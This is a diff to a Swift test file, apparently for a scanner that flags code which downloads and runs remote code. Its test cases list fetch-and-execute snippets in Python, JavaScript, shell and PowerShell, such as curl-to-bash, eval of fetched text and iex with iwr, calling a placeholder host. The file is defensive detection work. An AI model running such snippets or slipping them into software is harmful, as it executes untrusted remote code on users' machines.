@@ -69,7 +69,7 @@ private func rules(in path: String, _ text: String) throws -> Set<String> {
     @Test(arguments: [
         ("a.py", "exec(urlopen('https://a.acme.io/x').read())"),
         ("a.py", "import requests\nx = requests.get(URL).text\n\nif x:\n    exec(x)"),
-        ("a.py", "def get():\n    return urlopen(u).read()\n\n\ncode = get()\nexec(code)"),
+        ("a.py", "def load():\n    return urlopen(u).read()\n\n\ncode = load()\nexec(code)"),
         (
             "a.py",
             "r = requests.get(u)\nwith open('/tmp/t.py', 'wb') as f:\n    f.write(r.content)\nsubprocess.run(['python3', '/tmp/t.py'])"
@@ -77,7 +77,7 @@ private func rules(in path: String, _ text: String) throws -> Set<String> {
         ("a.js", "fetch(u).then(r => r.text()).then(eval)"),
         ("a.js", "const r = await fetch(u);\nconst t = await r.text();\nnew Function(t)();"),
         ("a.sh", "wget https://a.acme.io/tool && chmod +x tool && ./tool"),
-        ("a.sh", "F=/tmp/x\ncurl -so \"$F\" https://a.acme.io/x\nbash \"$F\""),
+        ("a.sh", "F=/tmp/x.sh\ncurl -so \"$F\" https://a.acme.io/x\nbash \"$F\""),
         ("a.sh", "x=$(curl -s https://a.acme.io/x)\neval \"$x\""),
         ("a.ps1", "iex (iwr https://a.acme.io/x)"),
         ("a.ps1", "$c = (New-Object Net.WebClient).DownloadString('https://a.acme.io')\niex $c"),
